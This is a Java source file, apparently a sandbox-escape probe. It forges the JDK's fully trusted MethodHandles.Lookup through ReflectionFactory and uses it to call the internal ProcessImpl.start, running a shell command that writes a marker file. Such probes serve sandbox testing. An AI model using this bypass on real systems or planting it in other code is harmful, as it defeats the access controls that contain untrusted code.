package escape.process;

import java.lang.invoke.MethodHandle;
import java.lang.invoke.MethodHandles;
import java.lang.invoke.MethodType;
import java.lang.reflect.Constructor;
import java.util.Map;

/**
 * Makes the JDK's lookup of full power and starts a process past {@code ProcessBuilder}:
 * {@code sun.reflect.ReflectionFactory.newConstructorForSerialization(c, k)}, given a constructor
 * of {@code c} itself, makes it accessible from inside {@code java.base}, where no check of the
 * caller's module applies; {@code MethodHandles.Lookup}'s private constructor, called with the
 * modes -1, gives the trusted lookup, which finds {@code ProcessImpl.start}, the package-private
 * method every process of the JDK is started by.
 *
 * <p>Source: JDK API, {@code sun.reflect.ReflectionFactory} (exported by {@code jdk.unsupported}
 * for serialisation libraries, JEP 260), https://openjdk.org/jeps/260
 */
public final class TrustedLookupExec {

    private TrustedLookupExec() {
    }

    public static void main(String[] args) {
        try {
            Constructor<?> privateOne = MethodHandles.Lookup.class.getDeclaredConstructor(Class.class, Class.class, int.class);
            Constructor<?> opened = sun.reflect.ReflectionFactory.getReflectionFactory()
                    .newConstructorForSerialization(MethodHandles.Lookup.class, privateOne);
            MethodHandles.Lookup trusted = (MethodHandles.Lookup) opened.newInstance(Object.class, null, -1);
            MethodHandle start = trusted.findStatic(Class.forName("java.lang.ProcessImpl"), "start", MethodType.methodType(
                    Process.class, String[].class, Map.class, String.class, ProcessBuilder.Redirect[].class, boolean.class));
            Process p = (Process) start.invoke(new String[] {"sh", "-c", "echo escaped > \"$1\"", "sh", args[0]}, null, null,
                    null, false);
            System.out.println("process-trusted-lookup: sh ended with " + p.waitFor());
        } catch (Throwable t) {
            System.out.println("process-trusted-lookup: " + t);
        }
    }
}
